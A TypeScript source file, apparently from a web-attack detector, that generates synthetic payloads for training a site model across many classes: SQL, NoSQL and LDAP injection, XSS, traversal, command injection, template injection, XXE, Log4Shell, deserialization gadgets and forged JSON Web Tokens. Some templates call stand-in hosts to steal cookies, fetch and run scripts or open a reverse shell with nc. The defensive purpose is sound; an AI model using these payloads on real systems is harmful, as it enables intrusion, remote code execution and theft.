/**
 * A small attack grammar in the project, so that `moat train` can sharpen a site model without any
 * payload list: templates per class with interchangeable parts. It is deliberately not a copy of the
 * shared lists (those are used for evaluation, and for training only when passed explicitly).
 */
import type { AttackClass } from "../../detect/classes.ts";
import { rng } from "../../core/random.ts";
import { pick } from "./sample.ts";

type Gen = (r: () => number) => string;

const q = (r: () => number) => pick(r, ["'", '"', "", "')", "'))", "\")"]);
const space = (r: () => number) => pick(r, [" ", "/**/", "+", "%09", "\n"]);
const tail = (r: () => number) => pick(r, ["--", "-- -", "#", "/*", ";--", ""]);

const TEMPLATE_DELIMITERS: [string, string][] = [["{{", "}}"], ["${", "}"], ["<%=", "%>"], ["#{", "}"], ["*{", "}"], ["{%", "%}"], ["${{", "}}"], ["[[${", "}]]"], ["@(", ")"], ["{{=", "}}"], ["<#assign x=", "/>"]];
const TEMPLATE_EXPRESSIONS = [
  "7*7", "7*'7'", "1337*1337", "99-7", "config", "config.items()", "self", "self.__dict__", "request", "request.environ",
  "''.__class__.__mro__[1].__subclasses__()", "lipsum.__globals__.os.popen('id').read()", "cycler.__init__.__globals__.os.popen('id')",
  "T(java.lang.Runtime).getRuntime().exec('id')", "_self.env.registerUndefinedFilterCallback('exec')", "'a'|upper", "range(1,10)|join",
  "dump(app)", "app.request.server.all|join(',')", "request.application.__globals__.__builtins__", "self.__init__.__globals__",
  "\"freemarker.template.utility.Execute\"?new()(\"id\")", "constructor.constructor('return process')()", "7*7}}{{7*7",
];
const NOSQL_OPERATORS = ["$ne", "$gt", "$gte", "$lt", "$regex", "$where", "$exists", "$nin", "$in", "$or", "$expr"];
const LDAP_ATTRIBUTES = ["uid", "cn", "sn", "objectClass", "mail", "userPassword", "password", "givenName", "memberOf", "description", "telephoneNumber", "sAMAccountName", "homeDirectory", "ou", "dc"];

/** 3 to 10 random lower-case letters: a name that is not always the same, so that a model learns the syntax around it. */
function letters(r: () => number): string {
  return Array.from({ length: 3 + Math.floor(r() * 8) }, () => String.fromCharCode(97 + Math.floor(r() * 26))).join("");
}

function host(r: () => number): string {
  const name = letters(r);
  return r() < 0.2 ? `${1 + Math.floor(r() * 223)}.${Math.floor(r() * 256)}.${Math.floor(r() * 256)}.${1 + Math.floor(r() * 254)}` : `${name}.${pick(r, ["com", "net", "io", "ru", "xyz", "example"])}`;
}

/** A class or property name: random letters, capitalised. */
function word(r: () => number): string {
  const w = letters(r);
  return w[0]!.toUpperCase() + w.slice(1);
}

/** Classes a serialized Java stream names first: gadget chains' entry points and ordinary collections. */
const JAVA_STREAM_CLASSES = [
  "java.util.PriorityQueue", "java.util.HashMap", "java.util.HashSet", "javax.management.BadAttributeValueExpException",
  "sun.reflect.annotation.AnnotationInvocationHandler", "org.apache.commons.collections.functors.InvokerTransformer",
  "com.sun.rowset.JdbcRowSetImpl", "java.net.URL", "org.hibernate.engine.spi.TypedValue", "java.rmi.server.UnicastRef",
];

/**
 * A Java object stream as an exploit sends it: the magic, a class descriptor (its name and a random
 * serialVersionUID) and a tail, in base64, base64url or hex.
 */
function javaStream(r: () => number): string {
  const name = Buffer.from(pick(r, JAVA_STREAM_CLASSES), "latin1");
  const random = (n: number) => Array.from({ length: n }, () => Math.floor(r() * 256));
  const bytes = Buffer.from([0xac, 0xed, 0x00, 0x05, 0x73, 0x72, name.length >> 8, name.length & 255, ...name, ...random(8), 0x02, ...random(4 + Math.floor(r() * 24))]);
  const form = r();
  return form < 0.6 ? bytes.toString("base64") : form < 0.8 ? bytes.toString("base64url") : bytes.toString("hex");
}

/** base64url without padding, as JSON Web Tokens write their parts. */
export const base64url = (text: string) => Buffer.from(text).toString("base64url");

/**
 * A JSON Web Token whose header switches the signature off (`alg` none, in the spellings libraries
 * compare loosely), with a forged claim set and an empty, kept or junk signature.
 */
function unsignedToken(r: () => number): string {
  const alg = pick(r, ["none", "None", "NONE", "nOnE"]);
  const header = pick(r, [{ alg, typ: "JWT" }, { typ: "JWT", alg }, { alg }]);
  const signature = pick(r, ["", "", base64url(letters(r).repeat(4))]);
  return `${base64url(JSON.stringify(header))}.${base64url(JSON.stringify(forgedClaims(r)))}.${signature}`;
}

/** Forged claims: who the token says its bearer is. */
function forgedClaims(r: () => number): Record<string, unknown> {
  return { sub: pick(r, ["admin", "1", letters(r)]), [pick(r, ["role", "scope", "groups", "is_admin"])]: pick(r, ["admin", "root", true, ["admin"]]), iat: 1_700_000_000 + Math.floor(r() * 1e8) };
}

/**
 * A JSON Web Token whose header brings the key to check it with: the attacker's own (`jwk`) or a URL
 * to fetch it from (`jku`, `x5u`), signed with the attacker's key.
 */
export function keyBringingToken(r: () => number): string {
  const alg = pick(r, ["RS256", "RS512", "ES256", "PS256"]);
  const host = pick(r, ["attacker.example", "evil.example.net", "198.51.100.7", "ngrok-free.example"]);
  const key = pick(r, [
    { jwk: { kty: "RSA", e: "AQAB", n: base64url(letters(r).repeat(8)) } },
    { jwk: { kty: "EC", crv: "P-256", x: base64url(letters(r).repeat(3)), y: base64url(letters(r).repeat(3)) } },
    { jku: `${pick(r, ["https", "http"])}://${host}/${pick(r, [".well-known/jwks.json", "jwks", "keys.json"])}` },
    { x5u: `${pick(r, ["https", "http"])}://${host}/${pick(r, ["cert.pem", "x5u.crt"])}` },
  ]);
  const header = { alg, ...(r() < 0.6 ? { typ: "JWT" } : {}), ...key };
  return `${base64url(JSON.stringify(header))}.${base64url(JSON.stringify(forgedClaims(r)))}.${base64url(letters(r).repeat(6))}`;
}

const GRAMMAR: Record<AttackClass, Gen[]> = {
  sqli: [
    (r) => `${q(r)}${space(r)}${pick(r, ["or", "OR", "oR", "||"])}${space(r)}${pick(r, ["1=1", "'a'='a", "true", "2>1", "'x' like 'x"])}${tail(r)}`,
    (r) => `${pick(r, ["1", "0", "-1", "9999"])}${q(r)}${space(r)}union${space(r)}${pick(r, ["all ", ""])}select${space(r)}${pick(r, ["null,null", "1,2,3", "username,password from users", "@@version,null", "table_name from information_schema.tables"])}${tail(r)}`,
    (r) => `${q(r)};${space(r)}${pick(r, ["drop table users", "waitfor delay '0:0:5'", "select pg_sleep(5)", "shutdown", "exec xp_cmdshell 'dir'"])}${tail(r)}`,
    (r) => `1${q(r)}${space(r)}and${space(r)}${pick(r, ["sleep(5)", "1=2", "extractvalue(1,concat(0x7e,version()))", "(select count(*) from sysobjects)>0", "ascii(substring(user(),1,1))>64"])}${tail(r)}`,
  ],
  xss: [
    (r) => `${pick(r, ["", "\">", "'>", "</title>", "</textarea>"])}<${pick(r, ["script", "ScRiPt", "script type=text/javascript"])}>${pick(r, ["alert(1)", "alert(document.cookie)", "prompt`1`", "fetch('//x.example/'+document.cookie)"])}</script>`,
    (r) => `${pick(r, ["", "\">", "'>"])}<${pick(r, ["img src=x", "svg", "body", "iframe src=x", "details open", "video src=1"])} ${pick(r, ["onerror", "onload", "onmouseover", "ontoggle", "onfocus autofocus"])}=${pick(r, ["alert(1)", "\"alert(1)\"", "confirm(document.domain)", "javascript:alert(1)"])}>`,
    (r) => `${pick(r, ["javascript:", "JaVaScRiPt:", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="])}${pick(r, ["alert(1)", "void(0)", ""])}`,
  ],
  traversal: [
    (r) => `${pick(r, ["../", "..\\", "..%2f", "%2e%2e/", "....//", "..%c0%af", "%252e%252e%252f"]).repeat(2 + Math.floor(r() * 6))}${pick(r, ["etc/passwd", "windows/win.ini", "etc/shadow", "proc/self/environ", "boot.ini"])}${pick(r, ["", "%00", "%00.jpg"])}`,
    (r) => `${pick(r, ["/etc/passwd", "c:\\windows\\system32\\drivers\\etc\\hosts", "php://filter/convert.base64-encode/resource=index.php", "file:///etc/passwd", "/proc/self/cmdline", "expect://id"])}`,
  ],
  cmdi: [
    (r) => `${pick(r, ["", "1", "x", "127.0.0.1", "a.txt", "test"])}${pick(r, [";", "|", "&&", "||", "%0a", "\n", "&"])}${pick(r, [" ", ""])}${pick(r, ["id", "whoami", "uname", "ls", "pwd", "ifconfig", "env", "hostname"])}`,
    (r) => `${pick(r, ["", "x", "1"])}${pick(r, ["$(", "`", "${IFS}$("])}${pick(r, ["id", "whoami", "sleep 5", "cat /etc/passwd", "curl x.example"])}${pick(r, [")", "`", ")"])}`,
    (r) => `${pick(r, ["", "x", "127.0.0.1", "a.txt"])}${pick(r, [";", "|", "||", "&&", "&", "\n", "`", "$("])}${pick(r, ["id", "cat /etc/passwd", "uname -a", "whoami", "ping -c 3 127.0.0.1", "nc -e /bin/sh 198.51.100.1 4444", "curl http://x.example/s|sh", "sleep 5"])}${pick(r, ["", "`", ")", ";", " #"])}`,
  ],
  ssti: [
    (r) => {
      const [open, close] = pick(r, TEMPLATE_DELIMITERS);
      const pad = pick(r, ["", " "]);
      return `${open}${pad}${pick(r, TEMPLATE_EXPRESSIONS)}${pad}${close}`;
    },
  ],
  xxe: [(r) => `<?xml version="1.0"?><!DOCTYPE ${pick(r, ["foo", "root", "r"])} [<!ENTITY ${pick(r, ["xxe", "x", "e"])} SYSTEM "${pick(r, ["file:///etc/passwd", "http://x.example/evil.dtd", "php://filter/resource=/etc/hosts"])}">]><root>&${pick(r, ["xxe", "x", "e"])};</root>`],
  nosqli: [
    (r) => pick(r, ['{"$gt":""}', '{"$ne":null}', "[$ne]=1", '{"$where":"sleep(100)"}', "'; return true; var x='", '{"$regex":".*"}', "true, $where: '1 == 1'"]),
    (r) => `{"${pick(r, ["username", "user", "email", "password", "id"])}":{"${pick(r, NOSQL_OPERATORS)}":${pick(r, ['""', "null", "1", "true", '".*"', '"^a"', "[]"])}}}`,
    (r) => `{"${pick(r, NOSQL_OPERATORS)}":${pick(r, ['""', "null", "0", "true", '"^adm"', '["a"]'])}}`,
    (r) => `${pick(r, ["'", '"', ""])}${pick(r, [" || ", "; ", " && "])}${pick(r, ["'1'=='1", "this.password.match(/.*/)", "sleep(5000)", "true", "db.users.find()"])}${pick(r, ["", "//", "; var x='"])}`,
  ],
  ldapi: [
    (r) => pick(r, ["*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(objectclass=*)", "*))%00", ")(cn=*))(|(cn=*", "x*)(|(password=*)"]),
    (r) => `${pick(r, ["*", "admin", "admin*", "x", ""])}${pick(r, [")(", "))(|(", ")(|(", ")(&(", ")(!("])}${pick(r, LDAP_ATTRIBUTES)}=${pick(r, ["*", "*a*", "admin", "*)"])}${pick(r, [")", "))", "", ")(|(uid=*", "%00"])}`,
    (r) => `${pick(r, ["(|", "(&", "(!"])}(${pick(r, LDAP_ATTRIBUTES)}=*)(${pick(r, LDAP_ATTRIBUTES)}=${pick(r, ["*", "admin*"])}))`,
  ],
  "open-redirect": [
    (r) => `${pick(r, ["//", "/\\", "\\/\\/", "https:", "//%09/", "/%2f%2f", "https://trusted.example@"])}${pick(r, ["evil.example", "198.51.100.9", "evil.example%2f..", "evil.example/%2e%2e"])}`,
    (r) => `${pick(r, ["//", "///", "////", "/\\", "\\\\", "%2f%2f", "/%5c", "https:/\\", "http:", "//%0d%0a", "/.//", "https://%09"])}${host(r)}${pick(r, ["", "/", "/%2e%2e", "%2f%2e%2e", "?", "#", "%23.trusted.example", "/login"])}`,
    (r) => `${pick(r, ["https://", "//", "http://"])}${pick(r, ["trusted.example", "www.trusted.example", "trusted.example.com"])}${pick(r, ["@", "%40", ".", "%2e", "\\@"])}${host(r)}`,
  ],
  log4shell: [(r) => `\${${pick(r, ["jndi", "${lower:j}ndi", "${::-j}${::-n}di"])}:${pick(r, ["ldap", "rmi", "dns"])}://${pick(r, ["x.example", "198.51.100.2:1389"])}/${pick(r, ["a", "Exploit"])}}`],
  ssrf: [(r) => pick(r, ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:6379/", "gopher://localhost:25/", "file:///etc/passwd", "http://[::]:22/", "http://0177.0.0.1/"])],
  crlf: [(r) => `${pick(r, ["", "x"])}${pick(r, ["%0d%0a", "\r\n"])}${pick(r, ["Set-Cookie: a=1", "Location: //evil.example", "X-Test: 1"])}`],
  scanner: [(r) => pick(r, ["/.env", "/.git/config", "/wp-login.php", "/backup.zip", "/admin.php.bak", "/.DS_Store", "/server-status", "/phpinfo.php"])],
  "code-injection": [
    (r) => `${pick(r, ["<?php ", "<?= ", ""])}${pick(r, ["system", "passthru", "shell_exec", "exec", "assert", "eval"])}(${pick(r, ["'id'", "$_GET['c']", "base64_decode('aWQ=')", "\"whoami\""])})${pick(r, [";", "; ?>", ""])}`,
    (r) => pick(r, ["require('child_process').exec('id')", "process.mainModule.require('child_process').execSync('ls')", "new java.lang.ProcessBuilder('id').start()", "java.lang.Runtime.getRuntime().exec('id')", "__import__('os').system('id')"]),
  ],
  rfi: [(r) => `${pick(r, ["http", "https", "ftp"])}://${host(r)}/${pick(r, ["shell.txt", "x.php", "c99.txt", "evil"])}${pick(r, ["?", "%00", "??", ""])}`],
  deserialization: [
    javaStream,
    (r) => {
      const cls = pick(r, ["stdClass", "Evil", "Monolog\\Handler\\SyslogUdpHandler", "GuzzleHttp\\Cookie\\FileCookieJar", "Logger", word(r)]);
      const prop = pick(r, ["file", "cmd", "data", "path", word(r)]);
      const value = pick(r, ["id", "/tmp/x.php", "<?php system($_GET[0]); ?>", word(r)]);
      return `${pick(r, ["O", "C"])}:${cls.length}:"${cls}":1:{s:${prop.length}:"${prop}";s:${value.length}:"${value}";}`;
    },
    (r) => `!!python/object/apply:${pick(r, ["os.system", "subprocess.check_output", "os.popen"])} [${JSON.stringify(pick(r, ["id", "whoami", `curl ${host(r)}`]))}]`,
    (r) => `!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://${host(r)}/"]]]]`,
    (r) => JSON.stringify({ $type: pick(r, ["System.Windows.Data.ObjectDataProvider, PresentationFramework", "System.Diagnostics.Process, System", "System.Configuration.Install.AssemblyInstaller, System.Configuration.Install"]), MethodName: "Start", MethodParameters: { $values: ["cmd", `/c ${pick(r, ["calc", "whoami", "ping " + host(r)])}`] } }),
    (r) => Buffer.from(`\x80\x04c${pick(r, ["os", "posix", "subprocess"])}\n${pick(r, ["system", "popen"])}\n(S'${pick(r, ["id", "whoami", `curl ${host(r)}`])}'\ntR.`, "latin1").toString("base64"),
  ],
  xpath: [(r) => `${pick(r, ["'", '"', "x'"])} ${pick(r, ["or", "and"])} ${pick(r, ["count(/*)=1", "name(/*)='root'", "string-length(name(/*))>0", "count(//user)>0"])}${pick(r, [" or '1'='1", "", " and '1'='1"])}`],
  "auth-bypass": [unsignedToken],
  "session-fixation": [(r) => pick(r, ["<script>document.cookie=\"sessionid=1234;\"</script>", "<meta http-equiv=\"Set-Cookie\" content=\"JSESSIONID=abc\">", "foo\";document.cookie='PHPSESSID=x';//"])],
};

/** One payload of a class from its templates. */
export function grammarPayload(r: () => number, cls: AttackClass): string {
  return pick(r, GRAMMAR[cls])(r);
}

/** `count` payloads spread over the classes (scanner probes are paths, not values: left out). */
export function grammarPayloads(count: number, seed: number): { cls: AttackClass; payload: string }[] {
  const r = rng(seed);
  const classes = (Object.keys(GRAMMAR) as AttackClass[]).filter((c) => c !== "scanner");
  return Array.from({ length: count }, (_, i) => {
    const cls = classes[i % classes.length]!;
    return { cls, payload: grammarPayload(r, cls) };
  });
}
